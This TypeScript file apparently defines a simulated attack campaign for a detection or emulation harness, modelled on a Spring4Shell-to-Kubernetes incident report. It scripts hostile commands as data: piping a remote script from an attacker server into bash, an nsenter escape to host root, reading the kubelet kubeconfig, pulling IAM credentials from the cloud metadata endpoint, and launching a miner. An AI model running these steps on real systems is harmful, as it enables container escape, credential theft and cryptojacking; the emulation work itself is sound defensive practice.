import { denied, list } from './calls.ts'
import { api, type Campaign, host, run, VICTIM, type Who } from './campaign.ts'
import { mine } from './miner.ts'

const NODE: Who = { as: 'node', from: 'node', agent: 'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc' }

export const SPRING_NSENTER: Campaign = {
  id: 'spring-nsenter',
  title: 'Spring4Shell to the node, metadata, kubectl, malware (Cortex case 229972)',
  source: 'Palo Alto Networks, reference incident',
  victim: 'spring',
  evasions: ['imds-v2'],
  unseen: [],
  rows: (attack) => {
    const { server, evades } = attack
    const metadata = [['169.254.169.254', 80]] as const
    return [
      ['0:00', 1, run('server', "/bin/sh -c 'id; whoami'", { as: 'sh' })],
      ['0:01', 1, run('sh', '/usr/bin/id')],
      ['0:01', 1, run('sh', '/usr/bin/whoami')],
      ['0:40', 1, run('server', `/bin/bash -c 'curl -s http://${server}/s.sh | bash'`, { as: 'shell' })],
      ['0:41', 1, run('shell', `/usr/bin/curl -s http://${server}/s.sh`, { to: [[server, 80]] })],
      ['1:30', 2, run('shell', '/usr/bin/nsenter -t 1 -m -u -i -n -p /bin/bash', { as: 'root' })],
      ['2:00', 2, host(VICTIM, '/usr/bin/cat /var/lib/kubelet/kubeconfig', { reads: ['/var/lib/kubelet/kubeconfig'] })],
      ...(evades('imds-v2')
        ? ([
            [
              '2:30',
              3,
              run('shell', '/usr/bin/curl -s -X PUT http://169.254.169.254/latest/api/token -m 2', {
                to: metadata,
                status: 28
              })
            ]
          ] as const)
        : ([
            [
              '2:30',
              3,
              run('shell', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', {
                to: metadata
              })
            ]
          ] as const)),
      [
        '3:10',
        4,
        run('root', '/usr/bin/kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods -A', {
          to: [['10.96.0.1', 443]]
        })
      ],
      ['3:11', 4, api(NODE, list('pods'), denied(list('secrets')))],
      ...mine(attack, '5:00', 5, 'shell')
    ]
  }
}
